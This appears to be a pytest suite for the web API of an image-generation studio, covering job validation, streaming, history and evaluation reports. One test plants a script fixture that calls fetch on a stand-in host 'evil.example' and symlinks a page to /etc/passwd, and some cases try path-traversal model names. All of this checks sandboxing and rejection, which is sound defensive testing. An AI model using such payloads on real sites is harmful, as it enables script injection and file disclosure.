"""The studio's API: requests and answers."""

import hashlib
import io
import json
import subprocess
import sys
import time

import pytest
from PIL import Image

from conftest import Studio, held, png, until
from limner.commands.suited_model import FEW_CANDIDATES
from limner.contract.bundled import COMPOSER, DEFAULT


def test_the_seed_chooses_words_and_emoji_are_spelled(studio: Studio):
    new_job = studio.submit(prompt="a {red|blue} __animal__ and \U0001f34e", seed=0, n=1)
    assert new_job["params"]["prompt"] == "a red cat and red apple"
    job = studio.over(new_job["id"])
    assert job["outputs"][0]["settings"]["prompts"] == ["a red cat and red apple"]
    assert "__colour__" in studio.submit(prompt="__color__", expect=422)["hint"]


def test_a_prompt_gives_pictures_with_their_settings(studio: Studio):
    job = studio.painted(prompt="a red apple", n=3, seed=7, sampler={"steps": 2})
    assert len(job["outputs"]) == 3 and job["notes"]["remarks"] == []
    for i, picture in enumerate(job["outputs"]):
        settings = picture["settings"]
        assert settings["prompt"] == "a red apple" and settings["sampler"]["steps"] == 2
        assert settings["seed"] == 7 + i and settings["n"] == 1
        image = studio.pixels(picture)
        assert image.size == (16, 16)
        assert json.loads(image.info["limner"]) == settings
        assert image.info["parameters"].startswith("a red apple\n")


def test_a_seed_gives_the_same_picture_alone_and_in_a_batch(studio: Studio):
    with held(studio):  # busy with another job until both jobs wait
        studio.submit(sampler={"steps": 8})
        jobs = [studio.submit(prompt=p, seed=seed)["id"] for p, seed in (("a", 3), ("a b c", 4))]
    batched = [studio.over(id) for id in jobs]
    times = [[job[name] for job in batched] for name in ("started", "finished")]
    assert max(times[0]) < min(times[1]), "both must be in one batch"
    for job in batched:
        single = studio.painted(prompt=job["params"]["prompt"], seed=job["params"]["seed"])
        assert studio.pixels(single["outputs"][0]).tobytes() == (
            studio.pixels(job["outputs"][0]).tobytes()
        )


def test_models_are_described_by_their_own_schemas(studio: Studio):
    listing = studio.client.get("/api/v1/models").json()
    by_name = {model["name"]: model for model in listing["models"]}
    assert {"emoji", "toy", "runs/animals"} <= by_name.keys() and listing["ready"]
    assert "lenet" not in by_name, "a judge must have no tasks"
    assert listing["models"][0]["name"] == DEFAULT and by_name["emoji"]["bundled"]
    toy = by_name["toy"]
    assert toy["family"] == "diffusion" and toy["text"] and toy["size"] == [3, 16, 16]
    assert toy["schema"]["properties"]["steps"]["maximum"] == 4000
    assert toy["schema"]["properties"]["scale"]["description"] == "how strong the colours are."
    assert by_name["runs/animals"]["labels"] == ["cat", "dog", "sea horse"]
    common = {"paint", "edit", "reconstruct", "interpolate", "walk", "mix"}
    assert toy["tasks"].keys() == common | {"attention"}
    assert by_name["runs/animals"]["tasks"].keys() == common, (
        "models without text must have no attention task"
    )
    rows = by_name["runs/rows"]["tasks"].keys()
    assert rows == (common | {"attention", "complete"}) - {"walk"}
    assert "attention" in by_name["emoji"]["tasks"]
    assert toy["tasks"]["edit"]["inputs"] == {
        "image": {"required": True},
        "mask": {"required": False},
    }
    assert by_name["emoji"]["usual"]["steps"] == 10
    assert toy["tasks"]["paint"]["several"]
    for steady in ("3d-to-line", "upscaler"):
        tasks = by_name[steady]["tasks"]
        assert not tasks["paint"]["several"] and "walk" not in tasks, (
            "a model that ignores the seed must be marked"
        )


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        ({"model": "tooy"}, "unknown model 'tooy'"),
        ({"model": "../../etc"}, "unknown model"),
        ({"task": "pint"}, "unknown task of model toy, 'pint'"),
        ({"sampler": {"steps": 0}}, "sampler option steps=0 is less than the minimum of 1"),
        ({"sampler": {"stepz": 3}}, "unknown sampler option 'stepz'"),
        ({"sampler": {"colour": "pink"}}, "sampler option colour='pink' is not one of"),
        ({"options": {"strength": 1}}, "unknown option 'strength'"),
        ({"label": "cat"}, "this model has no classes"),
        ({"prompt": "a (dog:99)"}, "the weight of 'dog' is 99"),
        ({"negative": "(fog:-1)"}, "the weight of 'fog' is -1"),
        ({"model": "runs/animals", "prompt": "cat"}, "this model was trained without text"),
        ({"model": "runs/animals", "label": "horze"}, "unknown class 'horze'"),
        ({"task": "edit"}, "task edit needs a picture"),
        ({"inputs": {"image": "x" * 22}}, "task paint takes no picture"),
        ({"n": 17}, "n must be at most 16"),
        ({"prompt": "x" * 200_000}, "prompt must have at most 2000 characters"),
        ({"prompt": "\U0001f600" * 700}, "prompt must have at most 2000 characters, and has 9799"),
        ({"prompt": "a\0b"}, "prompt has a NUL character"),
        ({"seed": 2**63}, "seed must be at most"),
        ({"seed": 1e300}, "seed must be at most"),
        ({"seed": 0.5}, "seed must be a whole number"),
        ({"n": "3"}, "n must be a whole number"),
        ({"seed": True}, "seed must be a whole number"),
        ({"vary": "0.5"}, "vary must be a number"),
        ({"cell": {"x": "1"}}, "cell.x must be a whole number"),
        ({"changes": ["", "x" * 3000]}, "changes, entry 2, must have at most 2000 characters"),
        ({"sampler": {"steps": 10**400}}, f"sampler option steps=1{'0' * 59} is greater than"),
        ({"sampler": {"steps": [1]}}, "sampler option steps=[1] is not a whole number"),
        ({"colour": "red"}, "colour is not known"),
        ({"size": "large"}, "size is not of the form "),
        ({"dtype": "int8"}, "dtype must be 'float32' or 'bfloat16'"),
        ({"changes": "red"}, "changes must be a list"),
        ({"sampler": [1]}, "sampler must be a JSON object"),
        ({"cell": 5}, "cell must be a JSON object"),
        ({"inputs": {"image": "a/b"}}, "inputs.image is not of the form "),
    ],
)
def test_invalid_jobs_are_refused_in_one_line(studio: Studio, asked: dict, said: str):
    problem = studio.submit(expect=422, **asked)
    assert problem.keys() == {"code", "message", "hint"} and problem["code"] == "invalid"
    assert problem["message"].startswith(said), problem
    assert "\n" not in problem["message"] and len(problem["message"]) < 300


def test_a_whole_number_may_be_written_with_a_point(studio: Studio):
    assert studio.submit(n=2.0, seed=7.0)["params"]["n"] == 2


def test_the_nearest_name_is_the_hint(studio: Studio):
    assert "did you mean 'toy'?" in studio.submit(model="tooy", expect=422)["hint"]


def test_an_error_found_by_the_worker_fails_only_that_job(studio: Studio):
    job = studio.over(studio.submit(negative="a cat", sampler={"scale": 1.0})["id"])
    assert job["state"] == "failed" and job["error"]["code"] == "invalid"
    assert job["error"]["message"] == "a negative prompt works through guidance"
    studio.painted(prompt="a cat")


def test_unknown_words_of_a_prompt_are_reported(studio: Studio):
    remarks = studio.painted(prompt="a 犬 cat")["notes"]["remarks"]
    assert len(remarks) == 1 and "unknown words" in remarks[0]


def test_a_model_that_suits_a_prompt_better_is_named_with_its_options(studio: Studio):
    quick = {"model": "emoji", "sampler": {"steps": 1, "upsampler_steps": 1}}
    notes = studio.painted(prompt="two dogs on the grass", **quick)["notes"]
    assert notes["suggestion"].pop("reason").startswith("emoji paints one thing at a time")
    assert (
        notes["suggestion"] == {"model": COMPOSER, "sampler": FEW_CANDIDATES}
        and not notes["remarks"]
    )
    assert studio.painted(prompt="a dog", **quick)["notes"]["suggestion"] is None


def test_classes_are_named_or_numbered(studio: Studio):
    pictures = [
        studio.painted(model="runs/animals", label=label, seed=1)["outputs"][0]
        for label in ("dog", "1", "cat")
    ]
    dog, one, cat = (studio.pixels(picture).tobytes() for picture in pictures)
    assert dog == one != cat


def test_a_job_is_followed_frame_by_frame(studio: Studio):
    start = time.monotonic()
    _, following = studio.followed(n=2, sampler={"steps": 12, "pause": 0.12})
    events = list(following)
    seconds = time.monotonic() - start
    names = [name for _, name, _ in events]
    assert names[0] == "queued" and names[-1] == "done" and "started" in names
    ids = [int(id) for id, _, _ in events]
    assert ids == sorted(set(ids))
    frames = [data for _, name, data in events if name == "frame"]
    steps = [data["step"] for data in frames]
    # A server that waits for the processor drops all frames but the latest.
    assert len(steps) >= 3 and steps == sorted(set(steps)) and frames[0]["pictures"] == 2
    progress = [data for _, name, data in events if name == "progress" and data["steps"]]
    last = progress[-1]
    assert last["steps"] == 12
    assert 0 <= last["eta"] <= seconds / last["step"] * (12 - last["step"]) + 0.01
    import base64

    frame = Image.open(io.BytesIO(base64.b64decode(frames[-1]["webp"])))
    assert frame.format == "WEBP" and frame.size == (32, 16)


def test_frames_are_sent_at_most_ten_times_a_second(studio: Studio):
    start = time.monotonic()
    _, events = studio.followed(sampler={"steps": 200, "pause": 0.005})
    frames = sum(name == "frame" for _, name, _ in events)
    assert 2 <= frames <= 10 * (time.monotonic() - start) + 1


def test_a_stream_resumes_after_the_last_received_event(studio: Studio):
    job, events = studio.followed(sampler={"steps": 30, "pause": 0.05})
    last_id, step = next((id, data["step"]) for id, name, data in events if name == "frame")
    rest = list(studio.events(job, after=last_id))
    assert all(int(id) > int(last_id) for id, _, _ in rest)
    names = [name for _, name, _ in rest]
    assert "started" not in names and "queued" not in names and names[-1] == "done"
    assert all(data["step"] > step for _, name, data in rest if name == "frame")
    assert [name for _, name, _ in studio.events(job, after=rest[-1][0])] == ["done"]


def test_a_stream_works_after_the_clock_was_set_back(studio: Studio):
    _, events = studio.followed(str(10**15), sampler={"steps": 8, "pause": 0.05})
    names = [name for _, name, _ in events]
    assert names[0] == "queued" and "started" in names and names[-1] == "done"


def test_a_repeated_idempotency_key_returns_the_first_job(studio: Studio):
    key = {"Idempotency-Key": "asked-twice"}
    requests = [{"model": "toy", "params": {"seed": seed}} for seed in (1, 2)]
    first, second = (
        studio.client.post("/api/v1/jobs", json=request, headers=key).json() for request in requests
    )
    assert second["id"] == first["id"] and second["params"] == first["params"]


def test_the_error_of_a_job_that_is_not_json_has_a_hint(studio: Studio):
    plain = {"Content-Type": "text/plain"}
    for content, reason in ((b'{"model": "toy"}', "must be a JSON object"), (b"", "is missing")):
        response = studio.client.post("/api/v1/jobs", content=content, headers=plain)
        assert response.status_code == 422
        assert response.json()["message"] == f"the request's body {reason}"
    assert "application/json" in studio.client.post("/api/v1/jobs", content=b"{}").json()["hint"]


def test_running_and_waiting_jobs_can_be_cancelled(studio: Studio):
    running = studio.submit(sampler={"steps": 4000, "pause": 0.02})["id"]
    waiting = studio.submit(sampler={"steps": 3}, seed=1)["id"]
    until(lambda: studio.job(running)["state"] == "running")
    assert studio.job(waiting)["position"] == 1
    other = studio.submit(sampler={"steps": 2})["id"]
    assert studio.client.delete(f"/api/v1/jobs/{waiting}").json()["state"] == "cancelled"
    assert studio.client.delete(f"/api/v1/jobs/{running}").json()["state"] == "cancelled"
    assert studio.over(other)["state"] == "done", "it waits less than the 80 s of the first job"
    assert [name for _, name, _ in studio.events(running)] == ["cancelled"]
    assert studio.client.delete(f"/api/v1/jobs/{other}").json()["state"] == "done"


def test_pictures_are_edited_completed_and_mixed(studio: Studio):
    red = studio.send(png(colour="red"))["id"]
    half = Image.new("L", (16, 16), 0)
    half.paste(255, (0, 0, 8, 16))
    file = io.BytesIO()
    half.save(file, "PNG")
    mask = studio.send(file.getvalue())["id"]
    job = studio.painted(
        task="edit", inputs={"image": red, "mask": mask}, options={"strength": 1.0}
    )
    pixels = studio.pixels(job["outputs"][0])
    assert pixels.getpixel((12, 5)) == (255, 0, 0) != pixels.getpixel((3, 5))
    assert job["outputs"][0]["settings"]["task"] == "edit" and job["notes"]["remarks"] == []
    few = {"options": {"strength": 0.4}, "sampler": {"steps": 2}, "inputs": {"image": red}}
    [remark] = studio.painted("flow-matching", task="edit", **few)["notes"]["remarks"]
    assert remark == "strength 0.4 is rounded to 0.5 in whole steps; give more sampler.steps"
    request = {"model": "runs/rows", "task": "complete", "inputs": {"image": red}}
    completion = studio.painted(options={"keep": 0.25}, **request)
    image = studio.pixels(completion["outputs"][0])
    assert image.getpixel((4, 3)) == (255, 0, 0) != image.getpixel((4, 4))
    inputs = {"image": red, "other": studio.send(png(colour="blue"))["id"]}
    path = studio.painted(task="interpolate", inputs=inputs, options={"steps": 5})["outputs"]
    assert len(path) == 5 and studio.pixels(path[0]).getpixel((0, 0)) == (255, 0, 0)
    assert len(studio.painted(task="mix", options={"rows": 2, "columns": 3})["outputs"]) == 6
    output = studio.painted(task="reconstruct", inputs={"image": path[4]["id"]})["outputs"][0]
    assert studio.pixels(output).getpixel((0, 0)) == (0, 0, 255)


def test_a_walk_leads_from_seed_to_seed(studio: Studio):
    pictures = studio.painted(task="walk", seed=1, options={"other_seed": 2, "steps": 5})["outputs"]
    pixels = [studio.pixels(picture).tobytes() for picture in pictures]
    ends = [studio.pixels(studio.painted(seed=s)["outputs"][0]).tobytes() for s in (1, 2)]
    assert [pixels[0], pixels[-1]] == ends and len({*pixels}) == 5
    assert [picture["place"] for picture in pictures] == [0, 1, 2, 3, 4]
    assert pictures[2]["settings"]["options"] == {"other_seed": 2, "steps": 5}


def test_each_word_has_a_map_that_is_not_in_the_history(studio: Studio):
    picture = studio.painted(prompt="a red piñata")["outputs"][0]
    total = studio.client.get("/api/v1/history").json()["total"]
    request = {"task": "attention", "inputs": {"image": picture["id"]}}
    maps = studio.painted(prompt="a red piñata", **request)["outputs"]
    assert [each["settings"]["word"] for each in maps] == ["a", "red", "piñata"]
    values = [[studio.pixels(each).getpixel((x, 8)) for x in (0, 4, 8, 12)] for each in maps]
    assert values == [[255, 0, 0, 0], [0, 255, 0, 0], [0, 0, 255, 255]], (
        "two tokens of one word must have one map"
    )
    assert studio.client.get("/api/v1/history").json()["total"] == total
    error = studio.over(studio.submit(prompt="犬", **request)["id"])["error"]
    assert error["message"] == "the model knows no word of this prompt"


def test_history_can_be_searched_starred_and_deleted(studio: Studio):
    job = studio.painted(prompt="a zebra crossing", n=2)
    listing = studio.client.get("/api/v1/history", params={"search": "ZEBRA"}).json()
    assert listing["total"] == 2 and {p["job"] for p in listing["pictures"]} == {job["id"]}
    one, two = (picture["id"] for picture in listing["pictures"])
    studio.client.patch(f"/api/v1/history/{one}", json={"favourite": True})
    favourites = studio.client.get("/api/v1/history", params={"search": "zebra", "favourite": True})
    assert [picture["id"] for picture in favourites.json()["pictures"]] == [one]
    page = studio.client.get(f"/api/v1/history/{two}").json()
    assert page["job"]["id"] == job["id"] and page["picture"]["words"] == "a zebra crossing"
    url = page["picture"]["url"]
    assert studio.client.get(url, params={"w": 64}).status_code == 200
    assert studio.client.delete(f"/api/v1/history/{two}").status_code == 204
    assert studio.client.get(url).status_code == 404
    assert studio.client.get("/api/v1/history", params={"search": "zebra"}).json()["total"] == 1


def test_a_picture_is_sent_with_its_settings_or_enlarged(studio: Studio):
    picture = studio.painted(prompt="a tree", sampler={"steps": 3})["outputs"][0]
    content = studio.client.get(picture["url"]).content
    asset = studio.send(content)
    assert asset["settings"] == picture["settings"]
    assert "limner" not in studio.pixels(asset).info
    large = Image.open(io.BytesIO(studio.client.get(picture["url"] + "?w=64").content))
    assert large.tobytes() == studio.pixels(picture).resize((64, 64), 0).tobytes()


@pytest.mark.parametrize("content", [None, b"", png()[:40]], ids=["gone", "empty", "cut"])
def test_a_picture_with_a_missing_or_damaged_file_is_not_found(
    studio: Studio, content: bytes | None
):
    url = studio.send(png(20, 20, "teal"))["url"]
    sha256 = hashlib.sha256(studio.client.get(url).content).hexdigest()
    file = studio.folder / "studio" / "pictures" / sha256[:2] / f"{sha256}.png"
    file.unlink()
    if content is None:
        assert studio.client.get(url).status_code == 404
    else:
        file.write_bytes(content)
    response = studio.client.get(url, params={"w": 64})
    assert response.status_code == 404, response.text
    assert response.json()["message"] == "this picture's file is gone or damaged"
    file.unlink(missing_ok=True)


def test_a_grid_is_found_by_its_id(studio: Studio):
    for x in range(2):
        studio.submit(board="board-12345", cell={"x": x, "names": ["seed"]}, seed=x)
    jobs = studio.client.get("/api/v1/jobs", params={"board": "board-12345"}).json()["jobs"]
    ids = {job["id"] for job in jobs}
    assert len(ids) == 2 and all(len(id) >= 22 for id in ids), "the id must have 128 random bits"
    assert [job["cell"]["x"] for job in jobs] == [0, 1]
    for job in jobs:
        studio.over(job["id"])


def test_an_unchanged_list_of_models_is_not_sent_again(studio: Studio):
    tag = studio.client.get("/api/v1/models").headers["etag"]
    response = studio.client.get("/api/v1/models", headers={"If-None-Match": tag})
    assert (response.status_code, response.content) == (304, b"")
    other = studio.client.get("/api/v1/models", headers={"If-None-Match": f"{tag[:-1]}x"})
    assert other.status_code == 200 and other.json()["models"]


def test_results_of_evaluations_are_sent_with_n(studio: Studio):
    folder = studio.folder / "runs" / "animals" / "evaluation"
    number = {
        "metric": "fid", "name": "FID", "value": 12.3456, "n": 1000, "row": "subject", "sign": "=",
        "m": 0, "extractor": "lenet", "low": 11.0, "high": 13.5, "error": None, "unit": "",
    }  # fmt: skip
    bound = number | {"name": "bits/dim", "sign": "<=", "value": 3.0, "error": 0.01}
    real = number | {"row": "reference"}
    document = {"against": {"name": "pets"}, "date": "2026-11-25T12:00:00"}
    details = {"n": 64, "subjects": [{"name": "runs/animals"}, {"name": "cats"}]}
    hostile = "<script>fetch('http://evil.example')</script>"
    text = json.dumps(document | details)
    for place, content in {"compared": text, "broken": "{", "linked": text}.items():
        (studio.folder / place).mkdir()
        (studio.folder / place / "comparison.json").write_text(content)
        (studio.folder / place / "index.html").write_text(hostile)
    (studio.folder / "linked" / "index.html").unlink()
    (studio.folder / "linked" / "index.html").symlink_to("/etc/passwd")
    for name, content in {
        "pets": json.dumps(document | {"numbers": [number, bound, real]}),
        "broken": "{",
        "odd": '{"numbers": 3}',
    }.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "report.json").write_text(content)
    (folder / "pets" / "report.md").write_text("# all of it")
    file = studio.folder / "outside.json"
    file.write_text(json.dumps(document | {"numbers": [number]}))
    (folder / "link").mkdir()
    (folder / "link" / "report.json").symlink_to(file)
    (report,) = studio.client.get("/api/v1/reports?model=runs/animals").json()["reports"]
    assert report["against"] == "pets" and report["date"] == "2026-11-25"
    assert [(row["name"], row["value"], row["n"]) for row in report["rows"]] == [
        ("FID", "12.35 (11 to 13.5)", 1000),
        ("bits/dim", "<= 3 ± 0.01", 1000),
    ]
    assert report["text"] == "# all of it"
    assert studio.client.get("/api/v1/reports?model=../runs").status_code == 404
    listing = studio.client.get("/api/v1/reports").json()
    assert listing["reports"] == [{"model": "runs/animals"} | report]
    comparisons = {each["folder"]: each for each in listing["comparisons"]}
    assert "broken" not in comparisons
    comparison = comparisons["compared"]
    assert comparison["subjects"] == ["runs/animals", "cats"] and comparison["n"] == 64
    response = studio.client.get(f"/api/v1/comparisons/{comparison['id']}")
    assert response.text == hostile
    (policy,) = response.headers.get_list("content-security-policy")
    assert "sandbox allow-scripts;" in policy + ";" and "allow-same-origin" not in policy
    assert "default-src 'none'; script-src 'sha256-" in policy
    for id in (comparisons["linked"]["id"], "0" * 20):
        assert studio.client.get(f"/api/v1/comparisons/{id}").status_code == 404


def test_metrics_are_available_for_prometheus(studio: Studio):
    studio.painted()
    assert studio.metric('limner_jobs{state="done"}') >= 1 and studio.metric("limner_workers") == 1


def test_the_server_does_not_import_torch():
    code = "import sys, limner.studio.serve; print({'torch', 'numpy'} & sys.modules.keys())"
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.strip() == "set()"
